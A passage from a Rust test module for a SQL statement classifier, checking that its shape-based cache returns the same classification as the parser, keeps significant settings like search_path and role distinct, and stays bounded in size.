                "DELETE FROM orders WHERE id = $1 AND n = 3",
                "DELETE FROM orders WHERE id = $1 AND n = 4",
            ),
        ] {
            let first = c.classify(a, &path);
            let shaped = c.classify(b, &path);
            let full = classify(b, &path);
            // What the cache gives is what the parser gives, the
            // normalised text included.
            let (Ok(s), Ok(f)) = (&*shaped, &full) else {
                panic!("{a} / {b}");
            };
            assert_eq!(s[0].kind, f[0].kind);
            assert_eq!(s[0].tables, f[0].tables);
            assert_eq!(s[0].writes, f[0].writes);
            assert_eq!(s[0].unbounded, f[0].unbounded);
            assert_eq!(s[0].fingerprint, f[0].fingerprint);
            assert_eq!(s[0].normalized, f[0].normalized, "{b}");
            assert_eq!(s[0].text, f[0].text, "{b}");
            assert!(first.is_ok());
        }
        // Constants that matter are never shared by shape.
        c.classify("SET search_path = 'a'", &path);
        let v = c.classify("SET search_path = 'secret'", &path);
        assert_eq!(
            v.as_ref().as_ref().unwrap()[0].search_path.as_deref(),
            Some(&["secret".to_owned()][..])
        );
        c.classify("SELECT set_config('application_name', 'x', false)", &path);
        let v = c.classify("SELECT set_config('role', 'x', false)", &path);
        assert_eq!(v.as_ref().as_ref().unwrap()[0].settings, ["role"]);
    }

    #[test]
    fn the_cache_parses_each_text_once_and_stays_bounded() {
        let c = Classifier::new(2);
        let a = c.classify("select a", &[]);
        let again = c.classify("select a", &[]);
        assert!(Arc::ptr_eq(&a, &again));
        c.classify("select b", &[]);
        c.classify("select c", &[]);
        assert_eq!(c.len(), 2);
    }
}
